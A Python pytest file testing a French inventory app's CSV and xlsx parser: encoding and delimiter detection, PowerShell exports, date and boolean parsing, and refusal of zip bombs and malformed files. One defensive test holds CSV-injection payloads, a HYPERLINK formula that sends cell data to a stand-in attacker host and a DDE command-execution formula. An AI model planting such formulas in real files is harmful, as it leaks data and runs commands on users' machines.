"""Tables from CSV and xlsx: encodings, delimiters, PowerShell's #TYPE line, French values,
and the hostile files that must be refused with a French message naming the line or cause."""

import io
from datetime import UTC, datetime, timedelta, timezone
from pathlib import Path

import openpyxl
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile

from pharmagarde.inventory.parsers.errors import ImportFileError
from pharmagarde.inventory.parsers.tabular import parse_bool, parse_datetime, read_table

FILES = Path(__file__).parent / "files" / "parsers"
HOSTILE = FILES / "hostile"
DEVICE_COLUMNS = ["Nom", "Type", "Adresse IP", "Acheté le", "Sous garantie"]


def table_of(path, **options):
    with open(path, "rb") as file:
        table = read_table(file, filename=path.name, **options)
        return table, list(table.rows())


def refusal(path_or_bytes, filename=None, **options):
    if isinstance(path_or_bytes, Path):
        filename = filename or path_or_bytes.name
        path_or_bytes = path_or_bytes.read_bytes()
    with pytest.raises(ImportFileError) as caught:
        table = read_table(io.BytesIO(path_or_bytes), filename=filename, **options)
        list(table.rows())
    return caught.value


def xlsx_bytes(rows):
    workbook = openpyxl.Workbook()
    sheet = workbook.active
    for row in rows:
        sheet.append(row)
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


# --- Delimiters and encodings ------------------------------------------------------------

@pytest.mark.parametrize(("name", "delimiter", "encoding"), [
    ("devices-comma.csv", ",", "utf-8"),
    ("devices-semicolon.csv", ";", "cp1252"),
    ("devices-tab.txt", "\t", "utf-8-sig"),
])
def test_delimiter_and_encoding_are_detected(name, delimiter, encoding):
    table, rows = table_of(FILES / name)
    assert (table.delimiter, table.encoding, table.type_name) == (delimiter, encoding, None)
    assert table.columns == DEVICE_COLUMNS
    assert [line for line, _row in rows] == [2, 3, 4, 5]
    assert rows[2][1] == {"Nom": "NAS-SAUVEGARDE", "Type": "NAS, sauvegarde",
                          "Adresse IP": "192.168.1.5", "Acheté le": "12/10/2019",
                          "Sous garantie": "Non"}
    assert rows[3][1]["Nom"] == "Robot « Pharmathek »"


@pytest.mark.parametrize(("name", "encoding"), [
    ("get-aduser-fr-utf8bom.csv", "utf-8-sig"),
    ("get-aduser-fr-cp1252.csv", "cp1252"),
    ("get-aduser-fr-ascii.csv", "utf-8"),
    ("get-aduser-outfile-utf16.csv", "utf-16"),
])
def test_powershell_exports_skip_the_type_line(name, encoding):
    table, rows = table_of(FILES / name)
    assert table.encoding == encoding
    assert table.delimiter == ";"
    assert table.type_name == "Selected.Microsoft.ActiveDirectory.Management.ADUser"
    assert table.columns[:3] == ["SamAccountName", "Name", "GivenName"]
    # The #TYPE line is line 1, the header line 2: data starts on line 3, as in Notepad.
    assert [line for line, _row in rows] == list(range(3, 10))
    marie = rows[3][1]
    assert marie["LastLogonDate"] == "31/01/2025 18:59:02"
    assert marie["Surname"] == ("Lef?vre" if "ascii" in name else "Lefèvre")
    # A $null (empty, unquoted) cell and a ;-joined MemberOf inside quotes.
    assert rows[0][1]["GivenName"] == ""
    assert rows[0][1]["MemberOf"].count(";CN=") == 4


def test_windows_1252_is_decided_on_the_whole_file_not_its_start():
    lines = ["Nom;Description"] + [f"PC-{n};Poste de comptoir" for n in range(5000)]
    lines.append("PC-fin;Réserve")  # the only accent, far beyond the first chunk
    data = ("\r\n".join(lines) + "\r\n").encode("cp1252")
    table = read_table(io.BytesIO(data), filename="postes.csv")
    assert table.encoding == "cp1252"
    assert list(table.rows())[-1] == (5002, {"Nom": "PC-fin", "Description": "Réserve"})


def test_multiline_cells_keep_the_line_where_the_row_starts():
    data = b'Nom,Note\r\nPC-1,"deux\r\nlignes"\r\nPC-2,simple\r\n\r\nPC-3,apres un blanc\r\n'
    table = read_table(io.BytesIO(data), filename="postes.csv")
    assert [(line, row["Nom"]) for line, row in table.rows()] == [
        (2, "PC-1"), (4, "PC-2"), (6, "PC-3")]


def test_short_rows_are_padded_and_trailing_empty_cells_ignored():
    data = b"Nom;Type;;\r\nPC-1\r\nPC-2;Poste;;\r\n"
    table = read_table(io.BytesIO(data), filename="postes.csv")
    assert table.columns == ["Nom", "Type"]
    assert [row for _line, row in table.rows()] == [
        {"Nom": "PC-1", "Type": ""}, {"Nom": "PC-2", "Type": "Poste"}]


def test_rows_can_be_read_twice_and_leave_the_file_open():
    file = open(FILES / "devices-comma.csv", "rb")  # noqa: SIM115
    try:
        table = read_table(file, filename="devices-comma.csv")
        rows = table.rows()
        next(rows)
        rows.close()  # a preview that stops early
        assert len(list(table.rows())) == 4
        assert not file.closed
    finally:
        file.close()


def test_a_django_uploaded_file_is_read_as_is():
    upload = SimpleUploadedFile("postes.csv", (FILES / "devices-semicolon.csv").read_bytes())
    table = read_table(upload, filename=upload.name)
    assert len(list(table.rows())) == 4
    assert not upload.closed


def test_formulas_are_kept_as_literal_text():
    _table, rows = table_of(HOSTILE / "formulas.csv")
    assert rows[0][1]["Nom"].startswith('=HYPERLINK("http://attaquant.example/?"&A1')
    assert rows[1][1] == {"Nom": "+cmd|' /C calc'!A0", "Description": "-2+3",
                          "Adresse IP": "@SUM(1+1)"}


# --- xlsx --------------------------------------------------------------------------------

def test_xlsx_values_come_back_as_text_and_formulas_are_not_evaluated():
    data = xlsx_bytes([
        ["Nom", "Acheté le", "Prix", "Garantie", "Calcul", "Postes"],
        ["PC-1", datetime(2021, 5, 3, 9, 30), 899.5, True, "=1+1", 3],
        [],
        ["PC-2", None, 1200, False, "@SUM(A1)", None],
    ])
    table = read_table(io.BytesIO(data), filename="postes.xlsx")
    assert (table.delimiter, table.encoding) == (None, None)
    assert table.columns == ["Nom", "Acheté le", "Prix", "Garantie", "Calcul", "Postes"]
    rows = list(table.rows())
    assert rows == [
        (2, {"Nom": "PC-1", "Acheté le": "2021-05-03 09:30:00", "Prix": "899.5",
             "Garantie": "True", "Calcul": "=1+1", "Postes": "3"}),
        (4, {"Nom": "PC-2", "Acheté le": "", "Prix": "1200", "Garantie": "False",
             "Calcul": "@SUM(A1)", "Postes": ""}),
    ]
    assert parse_datetime(rows[0][1]["Acheté le"]) == datetime(2021, 5, 3, 9, 30)
    assert parse_bool(rows[0][1]["Garantie"]) is True


def test_xlsx_from_an_uploaded_file():
    upload = SimpleUploadedFile("postes.xlsx", xlsx_bytes([["Nom"], ["PC-1"]]))
    assert list(read_table(upload, filename=upload.name).rows()) == [(2, {"Nom": "PC-1"})]


def test_xlsx_duplicate_columns_and_extra_cells_are_refused():
    error = refusal(xlsx_bytes([["Nom", "nom"], ["PC-1", "PC-1"]]), "postes.xlsx")
    assert "« nom »" in error.message and error.line == 1
    error = refusal(xlsx_bytes([["Nom"], ["PC-1"], ["PC-2", "en trop"]]), "postes.xlsx")
    assert error.line == 3 and "La ligne 3 contient 2 cellules" in error.message


def test_zip_bomb_xlsx_is_refused_without_being_inflated():
    error = refusal(HOSTILE / "zip-bomb.xlsx")
    assert "compressé de façon anormale" in error.message


def test_a_csv_renamed_xlsx_and_an_xlsx_renamed_csv_are_refused():
    assert "valide" in refusal(FILES / "devices-comma.csv", "postes.xlsx").message
    error = refusal(xlsx_bytes([["Nom"], ["PC-1"]]), "postes.csv")
    assert "classeur Excel" in error.message and ".xlsx" in error.message


def test_an_empty_workbook_has_no_header():
    assert "vide" in refusal(xlsx_bytes([]), "vide.xlsx").message


# --- Hostile and broken CSV --------------------------------------------------------------

def test_nul_bytes_are_refused_with_their_line():
    error = refusal(HOSTILE / "nul-bytes.csv")
    assert error.line == 3
    assert "caractères nuls (NUL) ligne 3" in error.message
    assert "-Encoding UTF8" in error.message


def test_binary_junk_is_refused():
    error = refusal(HOSTILE / "binary-junk.csv")
    assert "ce n'est pas" in error.message and error.line is not None


@pytest.mark.parametrize("data", [b"", b"\r\n \r\n", b"\xef\xbb\xbf"])
def test_empty_files_are_refused(data):
    assert refusal(data, "vide.csv").message == "Le fichier est vide."


def test_a_type_line_alone_has_no_header():
    assert "pas de ligne d'en-tête" in refusal(HOSTILE / "header-only-type.csv").message


def test_duplicate_columns_are_named():
    error = refusal(HOSTILE / "duplicate-columns.csv")
    assert "plusieurs colonnes du même nom : « adresse ip »" in error.message
    assert error.line == 1


def test_a_column_without_title_is_refused():
    error = refusal(b"Nom;;Type\r\nPC-1;x;Poste\r\n", "postes.csv")
    assert "colonne n° 2" in error.message


def test_a_row_with_more_cells_than_the_header_names_its_line():
    error = refusal(HOSTILE / "too-many-cells.csv")
    assert error.line == 3
    assert error.message.startswith("La ligne 3 contient 4 cellules alors que l'en-tête "
                                    "compte 2 colonnes")


def test_too_many_rows():
    data = b"Nom\r\n" + b"".join(b"PC-%d\r\n" % n for n in range(11))
    error = refusal(data, "postes.csv", max_rows=10)
    assert error.line == 12 and "plus de 10 lignes" in error.message
    table = read_table(io.BytesIO(data), filename="postes.csv", max_rows=11)
    assert len(list(table.rows())) == 11


def test_a_stray_quote_names_its_line():
    error = refusal(b'Nom,Note\r\nPC-1,ok\r\n"PC-2"x,mal\r\n', "postes.csv")
    assert error.line == 3 and "guillemet" in error.message


def test_an_unclosed_quote_does_not_swallow_the_file_silently():
    data = b'Nom,Note\r\nPC-1,"ouvert\r\n' + b"x" * 200_000 + b"\r\n"
    error = refusal(data, "postes.csv")
    assert error.line == 2


def test_other_extensions_are_refused():
    assert "CSV (.csv) ou Excel (.xlsx)" in refusal(b"Nom\nPC\n", "postes.ods").message


def test_unreadable_text_is_refused():
    # Invalid UTF-8, and 0x81 that Windows-1252 leaves undefined.
    assert "pas un texte lisible" in refusal(b"Nom\r\nPC-\x81\xff\r\n", "postes.csv").message


# --- Values ------------------------------------------------------------------------------

@pytest.mark.parametrize(("text", "expected"), [
    ("Vrai", True), ("FAUX", False), ("True", True), ("false", False), ("Oui", True),
    ("non", False), ("1", True), ("0", False), ("yes", True), ("No", False),
    (" oui ", True), ("", None), ("  ", None), (None, None),
])
def test_parse_bool(text, expected):
    assert parse_bool(text) is expected


def test_parse_bool_says_what_it_expects():
    with pytest.raises(ValueError, match="« peut-être » n'est pas une valeur oui/non"):
        parse_bool("peut-être")


@pytest.mark.parametrize(("text", "expected"), [
    ("01/02/2025", datetime(2025, 2, 1)),
    ("01/02/2025 08:15", datetime(2025, 2, 1, 8, 15)),
    ("01/02/2025 08:15:00", datetime(2025, 2, 1, 8, 15)),
    (" 29/02/2024 23:59:58 ", datetime(2024, 2, 29, 23, 59, 58)),
    ("1/2/2025 8:15:07", datetime(2025, 2, 1, 8, 15, 7)),
    ("2025-02-01", datetime(2025, 2, 1)),
    ("2025-02-01 08:15:00", datetime(2025, 2, 1, 8, 15)),
    ("2025-02-01T08:15:00", datetime(2025, 2, 1, 8, 15)),
    ("2025-02-01T08:15:00Z", datetime(2025, 2, 1, 8, 15, tzinfo=UTC)),
    ("2025-02-01T08:15:00+01:00",
     datetime(2025, 2, 1, 8, 15, tzinfo=timezone(timedelta(hours=1)))),
    # An English-locale PowerShell: M/d/yyyy h:mm:ss tt.
    ("2/1/2025 8:15:00 AM", datetime(2025, 2, 1, 8, 15)),
    ("12/31/2024 11:59:59 PM", datetime(2024, 12, 31, 23, 59, 59)),
    ("1/5/2025 12:00:00 AM", datetime(2025, 1, 5, 0, 0)),
    ("", None), (None, None),
])
def test_parse_datetime(text, expected):
    value = parse_datetime(text)
    assert value == expected
    if value is not None:
        assert (value.tzinfo is None) == (expected.tzinfo is None)


@pytest.mark.parametrize("text", ["31/02/2025", "01/13/2025 10:00:00", "hier", "2025-13-01",
                                  "13/1/2025 1:00:00 PM", "01/02/25",
                                  # The fast path for dd/mm/yyyy hh:mm:ss takes no less.
                                  "31/02/2025 10:00:00", "01/02/2025 24:00:00",
                                  "+1/02/2025 10:00:00", "01/02/2025 10:00:6０"])
def test_parse_datetime_refuses_in_french(text):
    with pytest.raises(ValueError, match="n'est pas une date reconnue"):
        parse_datetime(text)
